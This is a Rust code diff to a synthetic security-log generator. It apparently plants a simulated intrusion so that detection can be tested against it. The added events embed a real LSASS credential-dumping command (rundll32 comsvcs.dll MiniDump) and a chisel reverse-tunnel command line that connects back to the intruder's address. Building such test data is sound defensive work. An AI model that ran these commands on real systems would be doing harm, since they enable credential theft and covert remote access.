@@ -791,9 +791,25 @@ fn plant_intrusion(
         g.logon(t, host, &account, 10, &source_ip, &source_name);
         t += g.rng.random_range(10..20) * NANOS_PER_MINUTE;
     }
-    // WinRM remoting.
+    // WinRM remoting: the remote session dumps LSASS (PowerShell script block logging records it).
     for &host in &winrm {
         g.winrm_session(t, host, &account, &source_ip, &source_name, true);
+        let script_block_id =
+            format!("{:08x}-4c2e-4f1a-9d3b-{:012x}", g.rng.random::<u32>(), g.rng.random::<u64>() & 0xffff_ffff_ffff);
+        g.windows_event(
+            t + 20 * NANOS_PER_SECOND,
+            host,
+            "Microsoft-Windows-PowerShell/Operational",
+            "Microsoft-Windows-PowerShell",
+            4104,
+            json!({
+                "MessageNumber": "1",
+                "MessageTotal": "1",
+                "ScriptBlockText": "$p = (Get-Process lsass).Id; rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p C:\\Windows\\Temp\\dbg.bin full",
+                "ScriptBlockId": script_block_id,
+                "Path": "",
+            }),
+        );
         t += g.rng.random_range(4..12) * NANOS_PER_MINUTE;
     }
     // SSH with the same (directory-backed) account.
@@ -801,9 +817,23 @@ fn plant_intrusion(
         g.ssh_logon(t, host, &account, &source_ip, "password");
         t += g.rng.random_range(3..10) * NANOS_PER_MINUTE;
     }
-    // RDP through a reverse tunnel on the first RDP target: the logon comes from loopback.
+    // RDP through a reverse tunnel on the first RDP target: chisel there connects back to the
+    // intruder's workstation and exposes the server's RDP port, so the next logon comes from loopback.
     let tunnel = rdp[0];
     let tunnel_name = g.hosts[tunnel].name.clone();
+    let process = json!({
+        "SubjectUserSid": "S-1-5-21-3623811015-3361044348-30300820-1500",
+        "SubjectUserName": account,
+        "SubjectDomainName": DOMAIN,
+        "SubjectLogonId": "0x3e7",
+        "NewProcessId": "0x1f3c",
+        "NewProcessName": "C:\\ProgramData\\chisel.exe",
+        "TokenElevationType": "%%1937",
+        "ProcessId": "0x1a08",
+        "CommandLine": format!("C:\\ProgramData\\chisel.exe client {source_ip}:8443 R:3390:127.0.0.1:3389"),
+        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
+    });
+    g.security_event(t - 2 * NANOS_PER_MINUTE, tunnel, 4688, process);
     g.logon(t, tunnel, &account, 10, "127.0.0.1", &tunnel_name);
     let last_event = t + NANOS_PER_SECOND;
     let names = |hosts: &[usize]| -> Vec<String> {
@@ -865,6 +895,7 @@ fn sorted_lines(mut lines: Vec<(i64, String)>) -> (String, usize, i64) {
 fn security_activity(event_id: u32) -> &'static str {
     match event_id {
         4624 => "An account was successfully logged on.",
+        4688 => "A new process has been created.",
         4697 => "A service was installed in the system.",
         5140 => "A network share object was accessed.",
         5145 => "A network share object was checked to see whether client can be granted desired access.",
